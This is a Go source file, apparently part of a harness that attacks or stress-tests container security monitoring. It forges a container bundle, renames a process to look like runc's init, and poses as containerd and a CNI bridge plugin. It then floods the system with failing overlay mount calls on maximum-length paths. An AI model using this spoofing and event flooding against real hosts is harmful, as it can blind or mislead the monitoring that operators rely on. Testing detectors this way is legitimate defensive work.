package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

const (
	mountsVariable = "ATTACK_MOUNTS"
	daemonName     = "containerd"
	pluginName     = "bridge" // of CNI
)

func init() {
	roles["mount-init"] = mountInit
	roles["mount-create"] = mountCreate
	roles["mount-jobs"] = executeJobs
	roles["mount-job"] = mountJob
}

const (
	jobs      = 64   // that wait for what they belong to
	jobEvents = 1024 // of each
)

// mounts forges the init of a container, whose mounts fail, and plugins that set up the
// network of none. Its argument is how many mounts there are.
func mounts(args []string) (int, error) {
	n, err := strconv.Atoi(args[0])
	if err != nil {
		return 0, err
	}
	if err := os.Setenv(mountsVariable, args[0]); err != nil {
		return 0, err
	}
	if err := writeFile(filepath.Join(bundleDir(), "config.json"), forgedBundle); err != nil {
		return 0, err
	}
	if err := act(daemonName, "mount-jobs").Run(); err != nil {
		return 0, err
	}
	done, err := rounds(1, 1, func(int) error { return createIn("mount-create") })
	return done * n, err
}

func createIn(role string) error {
	return act(runtimeName, role, createArgs(bundleDir(), newID())...).Run()
}

func mountCreate() error {
	return act(runtimeName, "mount-init", "init").Run()
}

// mountInit is an init without a mount namespace of its own.
func mountInit() error {
	n, err := strconv.Atoi(os.Getenv(mountsVariable))
	if err != nil {
		return err
	}
	if err := rename("runc:[2:INIT]"); err != nil {
		return err
	}
	if err := failMounts(n); err != nil {
		return err
	}
	return unix.Exec("/bin/true", []string{"true"}, nil)
}

// failMounts calls mount with paths of the longest kind.
func failMounts(n int) error {
	source, target := longPath("source"), longPath("target")
	for range n {
		if err := unix.Mount(source, target, "overlay", 0, source[:4000]); err == nil {
			return fmt.Errorf("mount does not fail")
		}
	}
	return nil
}

// longPath returns the longest path that a system call reads (PATH_MAX).
func longPath(word string) string {
	return strings.Repeat("/"+word, 4095/(len(word)+1))
}

// executeJobs is a daemon that executes CNI plugins of networks that no start has.
func executeJobs() error {
	var left atomic.Int64
	left.Store(jobs)
	return repeat(4, func() bool { return left.Add(-1) >= 0 }, func(int) error {
		cmd := act(pluginName, "mount-job")
		cmd.Env = append(cmd.Env, "CNI_COMMAND=ADD", "CNI_CONTAINERID="+newID(), "CNI_NETNS=/run/netns/evil", "CNI_IFNAME=eth0")
		return cmd.Run()
	})
}

func mountJob() error { return failMounts(jobEvents) }
